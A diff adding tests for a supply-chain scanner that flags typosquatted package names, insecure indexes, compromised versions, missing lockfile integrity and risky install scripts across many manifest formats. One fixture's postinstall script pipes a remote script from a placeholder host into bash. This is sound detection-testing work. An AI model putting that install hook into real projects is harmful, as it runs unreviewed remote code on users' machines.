@@ -1,0 +1,67 @@
+// Dependencies: manifests of every ecosystem, typosquats and hallucinated names, risky sources,
+// compromised versions, install scripts; the popular packages themselves are never flagged.
+import { test } from 'node:test';
+import assert from 'node:assert/strict';
+import { readFileSync } from 'node:fs';
+import { join } from 'node:path';
+import { scanText } from '../src/engine/scan.ts';
+import { parseManifest } from '../src/analyzers/deps/manifests.ts';
+import { judgeName, normaliseName, editDistance } from '../src/analyzers/deps/names.ts';
+import { RULES_DIR } from '../src/paths.ts';
+
+const ids = (path: string, text: string) => scanText(path, text).findings.map((f) => `${f.line}:${f.ruleId}`);
+
+test('name normalisation and edit distance', () => {
+  assert.equal(normaliseName('pypi', 'Python_Dateutil'), 'python-dateutil');
+  assert.equal(normaliseName('pypi', 'zope.interface'), 'zope-interface');
+  assert.equal(normaliseName('npm', '@Types/Node'), '@types/node');
+  assert.equal(editDistance('lodash', 'loadsh'), 1);
+  assert.equal(editDistance('requests', 'reqeusts'), 1);
+  assert.equal(editDistance('numpy', 'pandas', 2), 3);
+});
+
+test('typosquats, combosquats and invented names are caught; popular names and siblings pass', () => {
+  const kind = (e: 'npm' | 'pypi', n: string) => judgeName(e, n).kind;
+  for (const n of ['loadsh', 'lodahs', 'expresss', 'reacct', 'types-node', 'lodash-merge']) assert.equal(kind('npm', n), 'typosquat', n);
+  for (const n of ['reqeusts', 'requessts', 'numpyy', 'colourama', 'pydanticc']) assert.equal(kind('pypi', n), 'typosquat', n);
+  assert.equal(kind('npm', 'node-lodash'), 'combosquat');
+  assert.equal(kind('pypi', 'flask-jwt-extended-auth'), 'unverified');
+  for (const n of ['lodash', 'react-dom', '@types/node', 'lodash.merge', 'vue', 'vuex', 'preact']) assert.notEqual(kind('npm', n), 'typosquat', n);
+  for (const n of ['requests', 'python-dateutil', 'Python_Dateutil', 'requests-toolbelt', 'bs4', 'beautifulsoup4']) assert.equal(kind('pypi', n), 'popular', n);
+});
+
+test('precision: none of the top 5,000 popular names of npm and PyPI is flagged', () => {
+  for (const eco of ['npm', 'pypi'] as const) {
+    const names = readFileSync(join(RULES_DIR, 'supply-chain', `popular-${eco}.txt`), 'utf8').split('\n').filter((l) => l && !l.startsWith('#')).slice(0, 5000).map((l) => l.split('\t')[0]);
+    const flagged = names.filter((n) => judgeName(eco, n).kind !== 'popular');
+    assert.deepEqual(flagged, [], eco);
+  }
+});
+
+test('manifests of every ecosystem are read with their lines', () => {
+  const deps = (path: string, text: string) => parseManifest(path, text)!.deps.map((d) => `${d.line}:${d.name}:${d.source}`);
+  assert.deepEqual(deps('package.json', '{\n  "dependencies": {\n    "a": "^1",\n    "b": "git+https://x/y.git"\n  },\n  "devDependencies": { "c": "file:../c" }\n}'), ['3:a:registry', '4:b:git', '6:c:path']);
+  assert.deepEqual(deps('requirements.txt', '# x\nrequests==2.0\n-e git+https://g/x.git#egg=x\nflask[async]>=3 ; python_version>"3.8"\n'), ['2:requests:registry', '3:x:git', '4:flask:registry']);
+  assert.deepEqual(deps('pyproject.toml', '[project]\ndependencies = [\n  "fastapi>=0.1",\n  "x @ https://h/x.whl",\n]\n[tool.poetry.dependencies]\npython = "^3.11"\nrich = "^13"\n'), ['3:fastapi:registry', '4:x:url', '8:rich:registry']);
+  assert.deepEqual(deps('setup.py', 'setup(\n  install_requires=[\n    "six>=1",\n    "attrs",\n  ],\n)'), ['3:six:registry', '4:attrs:registry']);
+  assert.deepEqual(deps('setup.cfg', '[options]\ninstall_requires =\n    click\n    jinja2>=3\n'), ['3:click:registry', '4:jinja2:registry']);
+  assert.deepEqual(deps('Pipfile', '[packages]\nrequests = "*"\nthing = {git = "https://g/t.git"}\n'), ['2:requests:registry', '3:thing:git']);
+  assert.deepEqual(deps('go.mod', 'module m\nrequire (\n\tgithub.com/pkg/errors v0.9.1\n)\nreplace a => ../a\n'), ['3:github.com/pkg/errors:registry', '5:../a:path']);
+  assert.deepEqual(deps('Cargo.toml', '[dependencies]\nserde = "1"\nfoo = { git = "https://g/foo" }\n'), ['2:serde:registry', '3:foo:git']);
+  assert.deepEqual(deps('Gemfile', "source 'https://rubygems.org'\ngem 'rails', '~> 7'\ngem 'x', git: 'https://g/x'\n"), ['2:rails:registry', '3:x:git']);
+  assert.deepEqual(deps('composer.json', '{\n "require": {\n  "php": ">=8",\n  "monolog/monolog": "^3"\n }\n}'), ['4:monolog/monolog:registry']);
+});
+
+test('scan: risky sources, indexes, compromised versions, lockfile integrity and install scripts', () => {
+  assert.deepEqual(ids('requirements.txt', '--index-url http://pypi.corp.example/simple\n--extra-index-url https://pypi.corp.example/simple\nreqeusts==1.0\n'),
+    ['1:supply-chain.insecure-index', '2:supply-chain.extra-index', '3:supply-chain.typosquat']);
+  const pkg = '{\n  "scripts": {\n    "postinstall": "curl -s https://x.example/i.sh | bash",\n    "build": "tsc"\n  },\n  "dependencies": { "event-stream": "3.3.6" }\n}';
+  const f = ids('package.json', pkg);
+  assert.ok(f.includes('3:supply-chain.install-script'), f.join(' '));
+  assert.ok(f.includes('6:supply-chain.compromised-version'), f.join(' '));
+  // Ordinary install scripts (a native build) are not flagged.
+  assert.deepEqual(ids('package.json', '{\n  "scripts": { "install": "node-gyp rebuild", "postinstall": "node install.js" },\n  "dependencies": { "nan": "^2" }\n}'), []);
+  const lock = JSON.stringify({ lockfileVersion: 3, packages: { '': {}, 'node_modules/a': { version: '1.0.0', resolved: 'https://registry.npmjs.org/a/-/a-1.0.0.tgz' }, 'node_modules/b': { version: '1.0.0', resolved: 'http://mirror.example/b.tgz', integrity: 'sha512-x' } } }, null, 2);
+  const l = ids('package-lock.json', lock).map((x) => x.split(':')[1]);
+  assert.deepEqual(l.sort(), ['supply-chain.insecure-index', 'supply-chain.missing-integrity']);
+});
